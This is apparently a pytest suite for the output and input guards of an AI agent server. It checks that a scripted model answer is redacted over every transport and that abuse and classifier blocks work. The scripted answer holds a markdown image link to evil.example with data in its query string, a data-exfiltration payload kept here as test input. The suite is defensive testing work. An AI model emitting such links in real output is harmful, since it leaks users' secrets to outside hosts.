"""A server whose model says what nobody should hear: over every wire, live or settled, it is not said."""

from __future__ import annotations

import json
import subprocess
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import grpc
import pytest
from websockets.sync.client import connect

from quarterdeck.devtools.simulator import Options, Script, Simulator, Step
from quarterdeck.transports.grpc import agent_pb2

from .beside import beside
from .conftest import QUARTERDECK, Server, environment

CARD = "4111 1111 1111 1111"
SECRET = "correct horse battery staple"
BAD = (CARD, "4111", SECRET, "evil.example/p", "https://evil", "?d=")
SAID = (
    f"The card is {CARD} and the phrase {SECRET} stands beside it. See ![chart](https://evil.example/p.png?d=4111) and "
    "https://intranet.example/pay for more. That is all."
)
SHOWN = (
    "The card is ███ and the phrase ███ stands beside it. See ![chart](⟨ evil[.]example ⟩) and "
    "https://intranet.example/pay for more. That is all."
)


class _Judge(BaseHTTPRequestHandler):
    """A classifier that finds texts about the moon."""

    def do_POST(self) -> None:
        text = json.loads(self.rfile.read(int(self.headers["Content-Length"])))["text"]
        said = json.dumps({"score": 0.99 if "moon" in text else 0.01}).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(said)))
        self.end_headers()
        self.wfile.write(said)

    def log_message(self, format: str, *args: Any) -> None: ...


@pytest.fixture(scope="module")
def judge() -> Iterator[str]:
    with beside(ThreadingHTTPServer(("127.0.0.1", 0), _Judge)) as server:
        yield f"http://127.0.0.1:{server.server_address[1]}/judge"


@pytest.fixture(scope="module")
def talkative(tmp_path_factory: pytest.TempPathFactory, judge: str) -> Iterator[Server]:
    folder = tmp_path_factory.mktemp("guarded")
    (folder / "agents").mkdir()
    (folder / "agents" / "desk.yaml").write_text('{"name": "desk", "retrieve": "never"}')
    (folder / "users.yaml").write_text(
        json.dumps({"users": [{"id": "ann", "scopes": ["chat", "runs.read"], "key": "generated", "default": True}]})
    )
    script = Script(steps=[Step(answer=SAID)])
    with Simulator(Options(scripts=[script])) as simulator:
        settings: dict[str, Any] = {
            "models": {
                "default": "acme:talker",
                "providers": {"acme": {"base_url": f"{simulator.url}/v1", "api_key": "sk-x"}},
            },
            "secrets": {"phrase": {"source": "env:PHRASE"}},
            "guards": {
                "allow_links": ["intranet.example"],
                "input": {"abuse": "block"},
                "classifiers": [
                    {"id": "moon", "kind": "http", "url": judge, "layers": ["input"], "ruling": "block"},
                    {"id": "away", "kind": "http", "url": "http://127.0.0.1:1/", "layers": ["input"], "ruling": "flag"},
                ],
            },
        }
        (folder / "quarterdeck.yaml").write_text(json.dumps(settings))
        environ = {"PHRASE": SECRET, "QUARTERDECK_SERVER__GRPC_PORT": "0"}
        server = Server(folder / "data", environ=environ, folder=folder)
        server.start()
        try:
            yield server
        finally:
            server.stop()


def _chat(server: Server) -> str:
    return server.send("POST", "/chat", {"message": "What is it?"}).body.decode()


def _events(server: Server) -> str:
    run_id = server.ask("What is it, please?")["run_id"]
    return server.send("GET", f"/api/v1/runs/{run_id}/events").body.decode()


def _sse(server: Server) -> str:
    return server.send("POST", "/api/v1/agent/stream", {"query": "What is it?", "agent_id": "desk"}).body.decode()


def _openai(server: Server) -> str:
    body = {"model": "desk", "stream": True, "messages": [{"role": "user", "content": "What is it?"}]}
    told = server.send("POST", "/v1/chat/completions", body).body.decode()
    chunks = [json.loads(line[6:]) for line in told.splitlines() if line.startswith("data: {")]
    return "".join(c["choices"][0]["delta"].get("content") or "" for c in chunks if c["choices"])


def _responses(server: Server) -> str:
    return server.send("POST", "/v1/responses", {"model": "desk", "input": "What is it?", "stream": True}).body.decode()


def _websocket(server: Server) -> str:
    with connect(f"ws://127.0.0.1:{server.port}/api/v1/stream", proxy=None, open_timeout=10) as socket:
        socket.send(json.dumps({"type": "ask", "id": "q", "message": "What is it?"}))
        told = [str(socket.recv(timeout=20))]
        while "final_answer" not in told[-1]:
            told.append(str(socket.recv(timeout=20)))
    return "\n".join(told)


def _grpc(server: Server) -> str:
    with grpc.insecure_channel(server.told["grpc"]) as channel:
        stream = channel.unary_stream(
            "/agent.AgentService/StreamQuery",
            request_serializer=agent_pb2.QueryRequest.SerializeToString,
            response_deserializer=agent_pb2.QueryChunk.FromString,
        )
        chunks = list(stream(agent_pb2.QueryRequest(query="What is it?"), timeout=20))
    return "".join(chunk.chunk for chunk in chunks) + chunks[-1].response.answer


@pytest.mark.row("G6", part="every wire")
@pytest.mark.parametrize("ask", [_chat, _events, _sse, _openai, _responses, _websocket, _grpc])
def test_what_a_model_must_not_say_is_said_over_no_wire(talkative: Server, ask: Any) -> None:
    told = ask(talkative)

    assert "intranet.example/pay" in told
    assert [bad for bad in BAD if bad in told] == []


def test_the_settled_answer_is_what_was_streamed(talkative: Server) -> None:
    run = talkative.ask("What is it?")

    assert run["answer"] == SHOWN
    assert _openai(talkative) == SHOWN


def test_a_blocked_question_is_refused(talkative: Server) -> None:
    refused = talkative.send("POST", "/chat", {"message": "Go die!"})

    assert refused.status in (400, 422)
    assert b"abuse" in refused.body


def test_a_refused_question_is_a_row_of_the_audit_log_without_a_word_of_it(talkative: Server) -> None:
    talkative.send("POST", "/chat", {"message": "Go die, ZQWORD!"})

    told = subprocess.run(
        [*QUARTERDECK, "audit", "show", str(talkative.data), "--limit", "10000", "--json"],
        capture_output=True,
        text=True,
        env=environment(),
        timeout=60,
        check=True,
    ).stdout
    rows = [row for row in json.loads(told) if ":question:desk" in row["object"]]

    assert {(row["actor"], row["action"]) for row in rows} == {("user:ann", "decision")}
    assert rows[-1]["decision"].startswith("deny:guard:abuse")
    assert "ZQWORD" not in told


@pytest.mark.row("G6", part="classifiers")
def test_a_classifier_of_the_configuration_is_asked_and_one_that_is_away_counts_as_configured(talkative: Server) -> None:
    refused = talkative.send("POST", "/chat", {"message": "Tell me of the moon."})
    run_id = talkative.ask("Tell me of the sun.")["run_id"]
    events = talkative.send("GET", f"/api/v1/runs/{run_id}/events").body.decode()

    assert refused.status in (400, 422)
    assert b"moon" in refused.body
    assert '"rule":"away.unknown"' in events.replace(" ", "")


@pytest.mark.parametrize(
    ("guards", "said"),
    [
        ({"patterns": [{"id": "p", "layers": ["output"], "pattern": "(?=a)b", "ruling": "redact"}]}, "RE2 refuses"),
        ({"agents": {"desk": {"output": {"card": "flag"}}}}, "milder than redact"),
        ({"agents": {"nobody": {}}}, "there is no such agent"),
    ],
)
def test_a_guard_that_cannot_be_is_told_at_start(tmp_path: Path, guards: Any, said: str) -> None:
    (tmp_path / "agents").mkdir()
    (tmp_path / "agents" / "desk.yaml").write_text('{"name": "desk"}')
    (tmp_path / "quarterdeck.yaml").write_text(json.dumps({"guards": guards}, indent=1))

    ended = subprocess.run(
        [*QUARTERDECK, "serve", str(tmp_path), "--port", "0"],
        capture_output=True,
        text=True,
        env=environment(),
        timeout=60,
        check=False,
    )

    assert ended.returncode != 0
    assert said in ended.stderr + ended.stdout
